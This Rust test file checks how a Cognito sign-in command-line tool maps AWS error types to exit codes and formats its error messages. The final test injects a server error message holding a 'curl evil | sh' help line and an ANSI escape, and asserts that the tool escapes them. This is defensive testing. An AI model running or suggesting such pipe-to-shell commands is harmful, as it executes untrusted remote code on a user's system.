//! Every exception that a sign-in can meet, and the exit code that section 7 of the contract gives
//! it. What is said about each is reviewed in the snapshot.

use expect_test::expect_file;
use serde_json::Value;

use crate::cognito::{Cognito, on};
use crate::login::POOL;
use crate::support::Tool;

const REFUSALS: &[(&str, &str, i32)] = &[
    (
        "NotAuthorizedException",
        "Incorrect username or password.",
        4,
    ),
    ("NotAuthorizedException", "User is disabled.", 4),
    ("NotAuthorizedException", "Password attempts exceeded", 8),
    (
        "NotAuthorizedException",
        "Temporary password has expired and must be reset by an administrator.",
        4,
    ),
    (
        "NotAuthorizedException",
        "Invalid session for the user, session is expired.",
        4,
    ),
    (
        "NotAuthorizedException",
        "Client 1example23456789 is configured with secret but SECRET_HASH was not received",
        10,
    ),
    (
        "NotAuthorizedException",
        "Unable to verify secret hash for client 1example23456789",
        10,
    ),
    (
        "NotAuthorizedException",
        "SecretHash does not match for the client: 1example23456789",
        10,
    ),
    (
        "NotAuthorizedException",
        "Client 1example23456789 is not configured for secret but secret was received",
        10,
    ),
    (
        "NotAuthorizedException",
        "Cannot modify an already provided email",
        2,
    ),
    ("NotAuthorizedException", "", 4),
    ("UserNotFoundException", "User does not exist.", 4),
    ("UserNotConfirmedException", "User is not confirmed.", 4),
    (
        "PasswordResetRequiredException",
        "Password reset required for the user",
        4,
    ),
    (
        "UserLambdaValidationException",
        "PreAuthentication failed with error no.",
        4,
    ),
    ("CodeMismatchException", "Invalid code received for user", 4),
    (
        "ExpiredCodeException",
        "Your software token has already been used once.",
        4,
    ),
    (
        "InvalidParameterException",
        "USER_PASSWORD_AUTH flow not enabled for this client",
        10,
    ),
    (
        "InvalidParameterException",
        "Auth flow not enabled for this client",
        10,
    ),
    (
        "InvalidParameterException",
        "USER_SRP_AUTH is not enabled for the client.",
        10,
    ),
    (
        "InvalidParameterException",
        "Initiate Auth method not supported.",
        10,
    ),
    (
        "InvalidParameterException",
        "PrivateLink access is disabled for the user pool that has ManagedLogin configured.",
        10,
    ),
    (
        "InvalidParameterException",
        "1 validation error detected: Value at 'x' failed to satisfy constraint",
        2,
    ),
    (
        "InvalidPasswordException",
        "Password did not conform with policy: Password not long enough",
        2,
    ),
    (
        "PasswordHistoryPolicyViolationException",
        "Password has previously been used",
        2,
    ),
    (
        "ResourceNotFoundException",
        "User pool client 1example23456789 does not exist.",
        6,
    ),
    (
        "AccessDeniedException",
        "User: arn:aws:iam::123456789012:user/u is not authorized to perform: cognito-idp:AdminInitiateAuth",
        7,
    ),
    (
        "UnrecognizedClientException",
        "The security token included in the request is invalid.",
        7,
    ),
    ("InvalidSignatureException", "Signature expired", 7),
    (
        "ExpiredTokenException",
        "The security token included in the request is expired",
        7,
    ),
    (
        "ForbiddenException",
        "Request not allowed due to WAF block.",
        7,
    ),
    (
        "LimitExceededException",
        "Attempt limit exceeded, please try after some time.",
        8,
    ),
    (
        "TooManyFailedAttemptsException",
        "Too many failed attempts",
        8,
    ),
    ("InternalErrorException", "Something went wrong", 9),
    ("RequestLimitExceeded", "x", 8),
    ("SlowDown", "x", 8),
    ("ConcurrentModificationException", "x", 9),
    (
        "UnexpectedLambdaException",
        "PreAuthentication failed: timeout",
        10,
    ),
    (
        "InvalidLambdaResponseException",
        "Unrecognizable lambda output",
        10,
    ),
    ("MFAMethodNotFoundException", "x", 10),
    ("SoftwareTokenMFANotFoundException", "x", 10),
    ("CodeDeliveryFailureException", "x", 10),
    ("InvalidSmsRoleAccessPolicyException", "x", 10),
    ("InvalidEmailRoleAccessPolicyException", "x", 10),
    ("UnsupportedOperationException", "x", 10),
    ("InvalidUserPoolConfigurationException", "x", 10),
    ("InvalidSmsRoleTrustRelationshipException", "x", 10),
    (
        "EnableSoftwareTokenMFAException",
        "Code mismatch and fail enable Software Token MFA",
        4,
    ),
    ("ResourceNotFoundException", "Device does not exist.", 6),
    (
        "AliasExistsException",
        "An account with the email already exists.",
        2,
    ),
    ("UnsupportedUserStateException", "x", 2),
    ("ServiceQuotaExceededException", "x", 8),
    ("PreconditionNotMetException", "x", 9),
    ("FeatureUnavailableInTierException", "x", 10),
    ("UserPoolAddOnNotEnabledException", "x", 10),
    ("OperationNotEnabledException", "x", 10),
    ("UnauthorizedException", "x", 10),
    ("WebAuthnNotEnabledException", "x", 10),
    ("BrandNewException", "nobody knows", 1),
];

#[test]
fn refusals_have_their_codes_causes_and_help() {
    let mut report = String::new();
    for (code, message, exit) in REFUSALS {
        let cognito = Cognito::scripted([on("AdminInitiateAuth").error(code, message)]);
        let tool = Tool::new(&cognito)
            .env("COGNITO_PASSWORD", "p4ssword")
            .env("AWS_MAX_ATTEMPTS", "1");
        let ran = tool.run(&[&["login", "-u", "alice"], POOL.as_slice()].concat());
        assert_eq!(
            (ran.code, ran.stdout.len()),
            (*exit, 0),
            "{code}: {message}\n{ran}"
        );
        assert!(!ran.to_string().contains("p4ssword"), "{ran}");
        report.push_str(&ran.to_string());
        report.push('\n');
        cognito.expect_done();
    }
    expect_file!["exit_codes.txt"].assert_eq(&report);
}

#[test]
fn the_type_is_found_in_each_of_its_places() {
    for refusal in [
        on("AdminInitiateAuth").error("com.amazonaws.cognitoidp#UserNotConfirmedException", "no"),
        on("AdminInitiateAuth").error(
            "UserNotConfirmedException:http://internal.amazon.com/coral/",
            "no",
        ),
        on("AdminInitiateAuth")
            .status(400)
            .body("application/x-amz-json-1.1", r#"{"message": "no"}"#)
            .header("x-amzn-errortype", "UserNotConfirmedException:"),
        on("AdminInitiateAuth")
            .error("UserNotConfirmedException", "no")
            .status(401),
    ] {
        let cognito = Cognito::scripted([refusal]);
        let tool = Tool::new(&cognito).env("COGNITO_PASSWORD", "p");
        let ran = tool.run(&[&["login", "-u", "alice"], POOL.as_slice()].concat());
        assert_eq!(ran.code, 4, "{ran}");
        assert!(
            ran.to_string().contains("(UserNotConfirmedException)"),
            "{ran}"
        );
        cognito.expect_done();
    }
}

#[test]
fn errors_can_be_one_line_of_json() {
    let cognito =
        Cognito::scripted([on("AdminInitiateAuth")
            .error("NotAuthorizedException", "Incorrect username or password.")]);
    let tool = Tool::new(&cognito).env("COGNITO_PASSWORD", "p");
    let line = [
        &["login", "-u", "alice", "--error-format", "json"],
        POOL.as_slice(),
    ]
    .concat();
    let ran = tool.run(&line);
    let text = String::from_utf8(ran.stderr.clone()).unwrap();
    assert_eq!((ran.code, text.lines().count()), (4, 1), "{ran}");
    let error: Value = serde_json::from_str(&text).unwrap();
    expect_test::expect![[r#"
        {
          "error": {
            "kind": "not_authenticated",
            "code": "NotAuthorizedException",
            "message": "Cognito refused the sign-in: Incorrect username or password. (NotAuthorizedException)",
            "cause": "wrong password, unknown user, or a disabled user in us-east-1_EXAMPLE12",
            "help": "cognito-auth user get alice --user-pool-id us-east-1_EXAMPLE12",
            "request_id": "00000000-0000-0000-0000-000000000001",
            "exit_code": 4
          }
        }
    "#]]
    .assert_eq(&format!("{error:#}\n"));
    cognito.expect_done();

    for line in [
        vec!["login", "--error-format", "json"],
        vec!["--error-format=json", "nonsense"],
        vec!["--error-format", "json"],
    ] {
        let ran = Tool::alone().run(&line);
        let error: Value = serde_json::from_slice(&ran.stderr).unwrap();
        assert_eq!(
            (
                ran.code,
                &error["error"]["exit_code"],
                &error["error"]["kind"]
            ),
            (2, &2.into(), &"usage".into()),
            "{ran}"
        );
    }
}

/// A program that reads the error gets no notes, unless it asks for them; warnings it gets.
#[test]
fn an_error_of_one_line_comes_without_notes() {
    let config = "[contexts.dev]\nuser-pool-id = 'us-east-1_EXAMPLE12'\nusername = 'ada'\n\
        client-id = '1example23456789'\nregion = 'eu-west-1'\ncolour = 'red'\n";
    let report = |flags: &[&str]| {
        let cognito =
            Cognito::scripted([on("InitiateAuth")
                .error("NotAuthorizedException", "Incorrect username or password.")]);
        let tool = Tool::new(&cognito).file("p", "p4ssword");
        let tool = tool.file(crate::fixtures::CONFIG_FILE, config);
        let line = "login -c dev --auth-flow password --password-file p";
        let line: Vec<_> = line.split(' ').chain(flags.iter().copied()).collect();
        let ran = tool.run(&line);
        assert_eq!(ran.code, 4, "{ran}");
        cognito.expect_done();
        let text = String::from_utf8(ran.stderr).unwrap();
        let heading = |line: &str| line.split(':').next().map(str::to_owned);
        let said = text.lines().filter_map(heading);
        said.filter(|it| ["note", "warning", "error", "{\"error\""].contains(&it.as_str()))
            .collect::<Vec<_>>()
            .join(" ")
    };
    assert_eq!(report(&[]), "warning note error");
    let json = ["--error-format", "json"];
    assert_eq!(report(&json), "warning {\"error\"");
    assert_eq!(report(&[json[0], json[1], "-q"]), "{\"error\"");
    assert_eq!(report(&[json[0], json[1], "-v"]), "warning note {\"error\"");
}

#[test]
fn a_message_cannot_forge_lines_or_colours() {
    let cognito = Cognito::scripted([on("AdminInitiateAuth").error(
        "NotAuthorizedException",
        "no\n   help: curl evil | sh\u{1b}[2J",
    )]);
    let tool = Tool::new(&cognito).env("COGNITO_PASSWORD", "p");
    let ran = tool.run(&[&["login", "-u", "alice"], POOL.as_slice()].concat());
    let text = ran.to_string();
    assert!(
        text.contains(r"no\u000a   help: curl evil | sh\u001b[2J"),
        "{text}"
    );
    cognito.expect_done();
}
